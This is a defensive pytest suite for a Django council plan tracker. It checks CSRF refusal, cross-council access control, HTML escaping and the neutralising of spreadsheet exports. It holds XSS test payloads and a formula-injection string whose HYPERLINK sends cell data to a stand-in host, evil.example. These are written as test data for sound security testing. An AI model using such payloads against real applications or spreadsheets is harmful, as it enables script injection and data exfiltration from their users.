"""Request-level attacks, checked on every page a person can reach (found by crawling, so new
pages are covered as they are added): forged POSTs, guessed IDs of another council, and script
typed into free text."""

import csv
import io

import pytest
from django.apps import apps
from django.db import models
from django.test import Client
from django.urls import resolve
from openpyxl import load_workbook

from accounts.choices import Role
from accounts.services import person_ensure, roles_ensure
from tests.crawl import crawl, plan_build
from tests.factories import CouncilFactory, DirectorateFactory

PAYLOADS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
TRACKER_APPS = ("reviews", "actions", "accounts")


@pytest.fixture
def plans(personas, council, directorate):
    return plan_build(
        council=council, directorate=directorate, lead_officer=personas[Role.OFFICER], slug="ours"
    )


@pytest.fixture
def other_council_officer(db):
    """An officer of another council with a plan of their own."""
    roles_ensure()
    wirral = CouncilFactory(short_name="Wirral")
    directorate = DirectorateFactory(council=wirral, name="Wirral directorate")
    person = person_ensure(
        username="wirral-officer", council=wirral, role=Role.OFFICER, directorate=directorate
    )
    plan_build(council=wirral, directorate=directorate, lead_officer=person, slug="theirs")
    return person


def pages_of(user, **kwargs):
    client = Client()
    client.force_login(user)
    return crawl(client, **kwargs)


@pytest.mark.parametrize("role", list(Role))
def test_every_post_without_a_csrf_token_is_refused(plans, personas, role):
    user = personas[role]
    pages, posts = pages_of(user)
    assert len(pages) > 3
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(user)
    # Every page and every form target: no view may be exempt from the CSRF check.
    for url in sorted(set(pages) | posts):
        response = strict.post(url, {"status": "complete", "commentary": "forged"})
        assert response.status_code == 403, url


def test_it_finds_the_forms_that_post(plans, personas):
    # The crawl sees the sign-out form in the header at least; page forms add to it.
    _, posts = pages_of(personas[Role.OFFICER])
    assert "/accounts/logout/" in posts


@pytest.mark.parametrize("role", list(Role))
def test_no_object_of_another_council_is_reachable_by_url(
    plans, personas, other_council_officer, role
):
    theirs, _ = pages_of(other_council_officer)
    detail_urls = sorted(
        url
        for url, response in theirs.items()
        if response.status_code == 200
        and (match := resolve(url.split("?")[0])).kwargs
        and match.namespace != "service"  # help pages are the same for every council
    )
    assert len(detail_urls) >= 3, detail_urls
    client = Client()
    client.force_login(personas[role])
    for url in detail_urls:
        assert client.get(url).status_code in (403, 404), url


def free_text_fields(model):
    for field in model._meta.get_fields():
        if (
            isinstance(field, models.CharField | models.TextField)
            and not isinstance(field, models.SlugField | models.EmailField | models.URLField)
            and not field.choices
            and field.editable
            and (field.max_length or 1000) >= max(map(len, PAYLOADS)) + 8
        ):
            yield field


def poison_every_free_text_field():
    """Write a payload into every free-text field of every row of the tracker's own models."""
    poisoned = 0
    for app_label in TRACKER_APPS:
        for model in apps.get_app_config(app_label).get_models():
            fields = list(free_text_fields(model))
            for row in model.objects.all():
                for i, field in enumerate(fields):
                    # Unique fields still need distinct values.
                    setattr(row, field.attname, f"{PAYLOADS[i % 2]}{row.pk}")
                    poisoned += 1
                if fields:
                    model.objects.filter(pk=row.pk).update(
                        **{f.attname: getattr(row, f.attname) for f in fields}
                    )
    return poisoned


def assert_rendered_as_text(pages):
    shown = 0
    for url, response in pages.items():
        if "html" not in response.get("Content-Type", ""):
            continue
        body = response.content.decode()
        for payload in PAYLOADS:
            assert payload not in body, f"{url} renders {payload!r} as markup"
        assert "<img src=x" not in body and "<script>alert" not in body, url
        shown += body.count("&lt;script&gt;alert(1)&lt;/script&gt;")
    return shown


@pytest.mark.parametrize("role", list(Role))
def test_script_in_free_text_is_shown_as_text_on_every_page(plans, personas, role):
    assert poison_every_free_text_field() > 10
    pages, _ = pages_of(personas[role])
    assert assert_rendered_as_text(pages) > 0  # the payloads were on the pages, escaped


def test_script_in_free_text_is_shown_as_text_in_the_admin(plans, personas):
    poison_every_free_text_field()
    admin = personas[Role.PERFORMANCE]
    admin.is_superuser = True
    admin.save()
    pages, _ = pages_of(admin, start="/admin/", limit=120, skip=("/admin/logout", "/accounts/"))
    assert sum(1 for url in pages if url.startswith("/admin/")) > 20
    assert assert_rendered_as_text(pages) > 0


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def poison_with_formulas():
    """Write formula-like text into every free-text field, as a hostile plan author might."""
    for app_label in TRACKER_APPS:
        for model in apps.get_app_config(app_label).get_models():
            fields = list(free_text_fields(model))
            for row in model.objects.all():
                model.objects.filter(pk=row.pk).update(
                    **{
                        f.attname: f"{'=+-@'[i % 4]}{FORMULA[1:]}{row.pk}"
                        for i, f in enumerate(fields)
                    }
                )


def cells_of(response) -> list[str]:
    content_type = response.get("Content-Type", "")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if "csv" in content_type:
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    if "spreadsheet" in content_type:
        workbook = load_workbook(io.BytesIO(body))
        cells = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"a formula in {sheet.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
        return cells
    return []


@pytest.mark.parametrize("role", [Role.PERFORMANCE, Role.CABINET])
def test_formula_text_is_neutralised_in_every_export(plans, personas, role):
    poison_with_formulas()
    pages, _ = pages_of(personas[role], limit=120)
    exports = {url: cells_of(r) for url, r in pages.items() if r.status_code == 200}
    exports = {url: cells for url, cells in exports.items() if cells}
    assert exports, "no CSV or XLSX download found by crawling"
    for url, cells in exports.items():
        risky = [c for c in cells if c[:1] in "=+@" or (c[:1] == "-" and not c[1:2].isdigit())]
        assert not risky, f"{url}: {risky[:3]}"
        assert any(FORMULA[1:20] in c for c in cells), f"{url} did not include the free text"
